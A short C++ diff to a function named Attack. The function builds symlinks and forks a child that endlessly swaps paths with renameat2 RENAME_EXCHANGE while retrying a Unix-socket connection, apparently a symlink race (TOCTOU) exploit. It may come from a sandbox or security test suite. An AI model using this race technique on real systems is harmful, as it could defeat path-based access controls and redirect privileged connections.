@@ -20,7 +20,9 @@ int Attack(const World& world) {
   if (Serve(Unix(own)) < 0 || symlink(own.c_str(), one.c_str()) < 0) return 1;
   if (symlink(there.c_str(), here.c_str()) < 0) return 1;
   const pid_t swapper = fork();
-  while (swapper == 0) renameat2(AT_FDCWD, here.c_str(), AT_FDCWD, one.c_str(), RENAME_EXCHANGE);
+  if (swapper == 0) {
+    for (;;) renameat2(AT_FDCWD, here.c_str(), AT_FDCWD, one.c_str(), RENAME_EXCHANGE);
+  }
   const bool won = KeepTrying([&] {
     const int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);
     const Address to = Unix(here);
